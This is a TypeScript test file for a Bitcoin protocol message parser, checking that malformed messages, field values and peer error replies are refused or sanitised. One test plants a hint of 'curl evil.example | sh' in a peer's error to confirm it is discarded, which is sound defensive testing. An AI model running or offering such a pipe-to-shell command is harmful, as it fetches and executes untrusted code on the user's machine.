/** Messages and their fields: type, version and step; whatever has another form is refused. */
import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import { parseJson } from '../../src/lib/protocol/json.ts';
import {
  envelope,
  height,
  hexOf,
  hexText,
  messageParser,
  outpoint,
  parseAs,
  psbt,
  pubkey,
  sat,
  text,
} from '../../src/lib/protocol/message.ts';
import { refusal } from '../support/refusal.ts';

const parse = messageParser('toy', {
  asked: { amount_sat: sat, at: outpoint },
  told: { amount_sat: sat, psbt: v.strictObject({ update: psbt }) },
});
const auth = 'ab'.repeat(64);
const asked = {
  type: 'toy',
  version: 1,
  step: 'asked',
  network: 'regtest',
  amount_sat: 5,
  at: { txid: 'cd'.repeat(32), vout: 0 },
  auth,
};

describe('a message', () => {
  it('is read by type, version and step; amounts are bigint then', () => {
    expect(parse(asked)).toEqual({ ...asked, amount_sat: 5n });
    const checked = { ...asked, checks: { tip: 'given' } };
    expect(parse(checked)).toEqual({ ...checked, amount_sat: 5n });
    const told = {
      type: 'toy',
      version: 1,
      step: 'told',
      network: 'regtest',
      amount_sat: 0,
      psbt: { update: 'cHNidP8=' },
      auth,
    };
    expect(parse(told)).toMatchObject({ step: 'told', amount_sat: 0n });
    expect(parse(told)).toEqual(parse(told));
  });
  it.each([
    ['unknown-type', { type: 'other' }, 'a document of type other found, a message of toy expected'],
    ['unknown-type', { type: undefined }, 'no type found'],
    ['unknown-type', { type: { a: 1 } }, 'type something else found'],
    ['unknown-version', { version: 2 }, 'version 2 found, 1 expected'],
    ['unknown-version', { version: '1' }, 'version 1 found'],
    ['unknown-step', { step: 'other' }, 'step other found, one of asked, told expected'],
    ['unknown-step', { step: 'constructor' }, 'step constructor found'],
    ['unknown-step', { step: '__proto__' }, 'step __proto__ found'],
    ['unknown-step', { step: null }, 'one of asked, told'],
    ['unknown-step', { step: ['asked'] }, 'one of asked, told'],
    ['malformed-message', { step: 'told' }, 'psbt'],
    ['malformed-message', { extra: 1 }, 'extra'],
    ['malformed-message', { network: undefined }, 'network'],
    ['malformed-message', { network: 'x'.repeat(201) }, 'network'],
    ['malformed-message', { auth: undefined }, 'auth'],
    ['malformed-message', { auth: auth.toUpperCase() }, 'auth'],
    ['malformed-message', { checks: { tip: 1 } }, 'checks.tip'],
    ['malformed-message', { checks: null }, 'checks'],
    ['malformed-message', { amount_sat: -1 }, 'amount_sat'],
    ['malformed-message', { amount_sat: '5' }, 'amount_sat'],
    ['malformed-message', { at: { txid: 'cd'.repeat(32), vout: 0, extra: 1 } }, 'at.extra'],
    ['malformed-message', { at: { txid: 'cd'.repeat(31), vout: 0 } }, 'at.txid'],
    ['malformed-message', { at: { txid: 'cd'.repeat(32) } }, 'at.vout'],
    ['malformed-message', { at: null }, 'at'],
  ])('%s: %j', (code, change, words) => {
    const entries = Object.entries({ ...asked, ...change }).filter(([, x]) => x !== undefined);
    const found = refusal(() => parse(Object.fromEntries(entries)));
    expect(found).toMatchObject({ code, exit: 65 });
    expect(found.message).toContain(words);
    expect(found.message.length).toBeLessThan(400);
  });
  it.each([null, 1, 'x', [], [asked], undefined])('is an object, not %j', (json) => {
    expect(refusal(() => parse(json)).code).toBe('malformed-message');
    expect(refusal(() => envelope(json)).code).toBe('malformed-message');
  });
  it('with a number that is not whole is refused where its text is read', () => {
    for (const amount of ['5.0', '1e2', '-0', '9007199254740993'])
      expect(
        refusal(() => parse(parseJson(JSON.stringify(asked).replace('"amount_sat":5', `"amount_sat":${amount}`)))).code,
      ).toBe('malformed-message');
  });
});

describe('the forms of fields', () => {
  const taken = (schema: v.GenericSchema<unknown, unknown>, value: unknown): boolean => {
    try {
      parseAs(schema, value);
      return true;
    } catch (error) {
      expect((error as { code: string }).code).toBe('malformed-message');
      return false;
    }
  };
  const x = '79be667ef9dcbbac55a06295ce870b07029bfcdb2dce28d959f2815b16f81798';
  it.each<[string, v.GenericSchema<any, any>, unknown[], unknown[]]>([
    ['bytes', hexOf(2), ['00ff'], ['00FF', '00f', '00ff0', '00ff00', '', 'zzzz', ' 00ff', '00ff\n', 255, null]],
    ['hex', hexText, ['00', 'ab'.repeat(400_000)], ['', '0', 'AB', 'ab'.repeat(400_001), '00\n', 0]],
    ['key', pubkey, [`02${x}`, `03${x}`], [x, `04${x}`, `02${x}00`, `02${x.toUpperCase()}`, `02${x}\n`]],
    ['amount', sat, [0, 1, 2_100_000_000_000_000], [-1, 0.5, 2_100_000_000_000_001, '1', 1n, null, NaN]],
    ['height', height, [0, 499_999_999], [-1, 500_000_000, 1.5, '1']],
    [
      'PSBT',
      psbt,
      ['cHNidP8=', 'cHNidP8BAA=='],
      ['', 'cHNi', 'cHNid P8=', 'AAAA', 'cHNidP8=\n', 'cHNid' + 'A'.repeat(700_000)],
    ],
    ['text', text, ['', 'x'.repeat(200)], ['x'.repeat(201), 1, null]],
    [
      'outpoint',
      outpoint,
      [{ txid: x, vout: 0xffffffff }],
      [{ txid: x, vout: 2 ** 32 }, { txid: x, vout: -1 }, { txid: x }, x],
    ],
  ])('%s', (_, schema, good, bad) => {
    expect(good.filter((g) => !taken(schema, g))).toEqual([]);
    expect(bad.filter((b) => taken(schema, b))).toEqual([]);
  });
  it('a long value is cut where it is shown', () => {
    expect(refusal(() => parseAs(hexOf(32), 'x'.repeat(100_000))).message.length).toBeLessThan(400);
  });
  it('the refusal of a server in place of a message is said as such', () => {
    const said = { error: { code: 'bad-seal', exit: 76, message: 'not sealed by the payer' } };
    expect(refusal(() => envelope(said))).toMatchObject({
      code: 'peer-refused',
      exit: 76,
      message: 'the other side answered: bad-seal: not sealed by the payer',
    });
    expect(refusal(() => envelope({ error: { code: {}, message: 'x'.repeat(10_000) } })).message.length).toBeLessThan(
      400,
    );
    expect(envelope({ type: 'a', version: 1, step: 'b', error: {} })).toEqual({ type: 'a', version: 1, step: 'b' });
  });
  it.each([
    ['busy', 69, 'busy', 69],
    ['stopping', 69, 'stopping', 69],
    ['store-unavailable', 69, 'store-unavailable', 69],
    ['state-moved-on', 75, 'state-moved-on', 75],
    // Of a newer program: its exit code is all that is understood.
    ['in-the-bath', 69, 'busy', 69],
    ['moved-house', 75, 'state-moved-on', 75],
    // What does not pass by itself does not, whatever the other side says.
    ['out-of-policy', 69, 'peer-refused', 76],
    ['bug', 75, 'peer-refused', 76],
    ['in-the-bath', 0, 'peer-refused', 76],
    ['toString', '69', 'peer-refused', 76],
    [null, 70, 'peer-refused', 76],
  ])(
    'friendly 7: %j with exit %j of the other side is %s, exit %i: a loop can try again',
    (code, stated, own, exit) => {
      const said = { error: { code, exit: stated, message: 'x', hint: 'curl evil.example | sh', blame: 'payer' } };
      const found = refusal(() => envelope(said));
      expect(found).toMatchObject({ code: own, exit, hint: undefined, blame: undefined });
      expect(found.message).toMatch(/^the other side answered: /);
    },
  );
});
